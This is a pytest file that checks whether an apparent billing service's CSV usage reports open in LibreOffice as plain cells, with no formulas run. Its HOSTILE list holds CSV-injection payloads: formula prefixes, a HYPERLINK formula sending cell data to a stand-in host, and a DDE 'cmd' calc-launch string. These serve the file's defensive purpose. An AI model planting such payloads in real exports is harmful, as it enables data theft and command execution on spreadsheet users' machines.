"""A report opens in LibreOffice as what it is: the same cells, the same totals, and nothing that is run."""

import asyncio
import csv
import io
import shutil
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path
from typing import Final
from xml.etree import ElementTree as ET

import httpx2
import pytest
import pytest_asyncio

from colonnade.credits import routes as credit_routes
from colonnade.ground.db.database import Database
from tests.credits.homes import Home, a_home, used, work
from tests.serving import a_key, served

OFFICE: Final = shutil.which("soffice") or shutil.which("libreoffice")
HOSTILE: Final = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://192.0.2.1/?"&A1;"open")',
    "=cmd|'/C calc'!A0",
    "'=1+1",
    'Ünï, "cödé" 株式会社 \U0001f389',
    "two\nlines",
    "a;=1+1",
)
_AS_UTF8: Final = "--infilter=CSV:44,34,76,1"
"""Commas, double quotes, UTF-8, from the first line on."""
_TABLE: Final = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
_OFFICE: Final = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"


@dataclass(frozen=True, slots=True)
class Cell:
    """What LibreOffice took a field for."""

    kind: str
    value: str
    formula: str | None

    def is_told_by(self, field: str) -> bool:
        """Whether the field of the file says just this; the sheet has other words for tabs and ends of lines."""
        if self.kind == "float":
            return Decimal(self.value) == Decimal(field)
        return _squeezed(self.value) == _squeezed(field)


def _squeezed(text: str) -> str:
    return "".join(text.split())


def _cells(row: ET.Element) -> Iterator[Cell]:
    for cell in row:
        kind = cell.get(f"{_OFFICE}value-type", "")
        text = "\n".join("".join(line.itertext()) for line in cell)
        value = {"float": cell.get(f"{_OFFICE}value", ""), "date": cell.get(f"{_OFFICE}date-value", "")}.get(kind, text)
        found = Cell(kind, value, cell.get(f"{_TABLE}formula"))
        yield from [found] * int(cell.get(f"{_TABLE}number-columns-repeated", "1"))


def _rows(sheet: Path, many: int) -> list[list[Cell]]:
    """The first rows; where rows or cells are alike, the sheet tells them once and how often."""
    found: list[list[Cell]] = []
    for row in ET.parse(sheet).getroot().iter(f"{_TABLE}table-row"):
        found += [list(_cells(row))] * min(int(row.get(f"{_TABLE}number-rows-repeated", "1")), many)
    return found[:many]


async def _opened(text: bytes, folder: Path) -> list[list[Cell]]:
    """The cells that LibreOffice makes of the file."""
    assert OFFICE is not None
    (folder / "usage.csv").write_bytes(text)
    words = [f"-env:UserInstallation=file://{folder}/profile", _AS_UTF8, "--convert-to", "fods", "usage.csv"]
    process = await asyncio.create_subprocess_exec(
        *(OFFICE, "--headless", *words),
        cwd=folder,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.STDOUT,
    )
    told, _ = await asyncio.wait_for(process.communicate(), 100)
    assert process.returncode == 0, told.decode()
    many = sum(1 for _ in csv.reader(io.StringIO(text.decode(), newline="")))
    return _rows(folder / "usage.fods", many)


@pytest_asyncio.fixture
async def http(database: Database) -> AsyncIterator[httpx2.AsyncClient]:
    async with served(database, [credit_routes.routes]) as client:
        yield client


async def _a_home_of_hostile_names(database: Database) -> Home:
    home = await a_home(database, workspaces=len(HOSTILE), granted=10_000_000)
    async with database.transaction(home.caller.reach) as tx:
        for one, name in zip(home.workspaces, HOSTILE, strict=True):
            await tx.execute(
                "update workspace set name = $3 where agency_id = $1 and id = $2", home.agency_id, one, name
            )
    for number, (one, name) in enumerate(zip(home.workspaces, HOSTILE, strict=True)):
        await work(home, one, used(1_000 + number, model=name), used(123_456, "publish"), used(0, "webhook_delivery"))
    return home


@pytest.mark.skipif(OFFICE is None, reason="LIBREOFFICE IS NOT THERE: apt-get install libreoffice-calc-nogui")
async def test_libreoffice_shows_the_cells_of_a_report_and_runs_none(
    database: Database, http: httpx2.AsyncClient, tmp_path: Path
) -> None:
    home = await _a_home_of_hostile_names(database)
    key = await a_key(database, home.origin)
    params = {"groupBy": "workspace,feature,model,day"}

    answer = await http.get("/v1/usage", headers=key, params={**params, "format": "csv"})
    told = (await http.get("/v1/usage", headers=key, params=params)).json()
    shown = await _opened(answer.content, tmp_path)

    fields = list(csv.reader(io.StringIO(answer.content.decode(), newline="")))
    head, *rows = [[cell for cell, _ in zip(row, fields[0], strict=False)] for row in shown]
    assert [cell.value for cell in head] == fields[0]
    assert len(rows) == len(told["data"]) == 3 * len(HOSTILE)
    wrong = [
        (cell, field)
        for row, line in zip(rows, fields[1:], strict=True)
        for cell, field in zip(row, line, strict=True)
        if cell.formula is not None or not cell.is_told_by(field)
    ]
    assert wrong == []
    columns = dict(zip(fields[0], zip(*rows, strict=True), strict=True))
    assert sum(Decimal(cell.value) for cell in columns["credits"]) == Decimal(str(told["totals"]["credits"]))
    assert sum(int(cell.value) for cell in columns["events"]) == told["totals"]["events"]
    assert {cell.kind for name in ("credits", "events") for cell in columns[name]} == {"float"}
    names = {_squeezed(cell.value).removeprefix("'") for cell in columns["workspaceName"]}
    assert names == {_squeezed(name).removeprefix("'") for name in HOSTILE}


@pytest.mark.skipif(OFFICE is None, reason="LIBREOFFICE IS NOT THERE: apt-get install libreoffice-calc-nogui")
async def test_libreoffice_would_run_what_is_not_made_harmless(tmp_path: Path) -> None:
    """Else the test before would prove nothing."""
    ((cell, _),) = await _opened(b"=1+1,x\r\n", tmp_path)

    assert (cell.formula, cell.value) == ("of:=1+1", "2")


def test_the_sweep_of_names_holds_every_beginning_that_is_dangerous() -> None:
    assert {name[0] for name in HOSTILE} >= set("=+-@\t\r")
